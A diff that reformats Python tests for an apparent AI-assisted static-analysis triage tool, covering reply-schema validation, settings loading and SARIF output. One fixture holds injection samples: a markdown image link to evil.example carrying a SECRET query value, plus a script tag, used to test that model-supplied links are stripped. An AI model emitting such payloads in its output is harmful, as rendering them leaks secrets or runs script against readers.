@@ -64,7 +64,10 @@ def test_locate_strips_a_copied_margin_and_reindents():
 
 def test_reply_schema_is_what_parse_reply_accepts():
     good = {
-        "verdict": "uncertain", "confidence": 0.5, "reason": "r", "explanation": "e",
+        "verdict": "uncertain",
+        "confidence": 0.5,
+        "reason": "r",
+        "explanation": "e",
         "fix": {"description": "d", "edits": [{"path": "p", "snippet": "s", "replacement": ""}]},
     }
     jsonschema.validate(good, REPLY_SCHEMA)
@@ -76,10 +79,16 @@ def test_reply_schema_is_what_parse_reply_accepts():
         {**good, "fix": {"description": "d", "edits": [{"path": "p", "snippet": "s"}]}},
     ):
         with pytest.raises(jsonschema.ValidationError):
-            jsonschema.validate(bad, {**REPLY_SCHEMA, "properties": {
-                **REPLY_SCHEMA["properties"],
-                "confidence": {"type": "number", "minimum": 0, "maximum": 1},
-            }})
+            jsonschema.validate(
+                bad,
+                {
+                    **REPLY_SCHEMA,
+                    "properties": {
+                        **REPLY_SCHEMA["properties"],
+                        "confidence": {"type": "number", "minimum": 0, "maximum": 1},
+                    },
+                },
+            )
         with pytest.raises(InvalidReply):
             parse_reply(json.dumps(bad))
 
@@ -87,8 +96,13 @@ def test_reply_schema_is_what_parse_reply_accepts():
 def test_settings_from_the_table_and_environment(tmp_path: Path):
     env = {"MY_KEY": "k", "OPENAI_BASE_URL": "http://localhost:11434/v1"}
     settings = from_config(
-        {"model": "llama3.1", "api-key-env": "MY_KEY", "budget-usd": 0.5,
-         "prices": {"llama3.1": {"input": 0, "output": 0}}, "cache-dir": str(tmp_path)},
+        {
+            "model": "llama3.1",
+            "api-key-env": "MY_KEY",
+            "budget-usd": 0.5,
+            "prices": {"llama3.1": {"input": 0, "output": 0}},
+            "cache-dir": str(tmp_path),
+        },
         env,
     )
     assert settings.api_key == "k" and settings.base_url == "http://localhost:11434/v1"
@@ -102,9 +116,15 @@ def test_settings_from_the_table_and_environment(tmp_path: Path):
 
 def test_sarif_markdown_keeps_the_text_of_model_links_only():
     finding = Finding(
-        "DJR301", "mark-safe-on-variable", "m", Severity.WARNING, Location("a.py", 1),
+        "DJR301",
+        "mark-safe-on-variable",
+        "m",
+        Severity.WARNING,
+        Location("a.py", 1),
         properties=(
-            ("ai.confidence", "0.90"), ("ai.model", "m"), ("ai.prompt_version", "v"),
+            ("ai.confidence", "0.90"),
+            ("ai.model", "m"),
+            ("ai.prompt_version", "v"),
             ("ai.reason", "see [docs](https://evil.example/?k=1)"),
             ("ai.explanation", "![x](https://evil.example/p.png?s=SECRET) use <script>"),
             ("ai.verdict", "true_positive"),
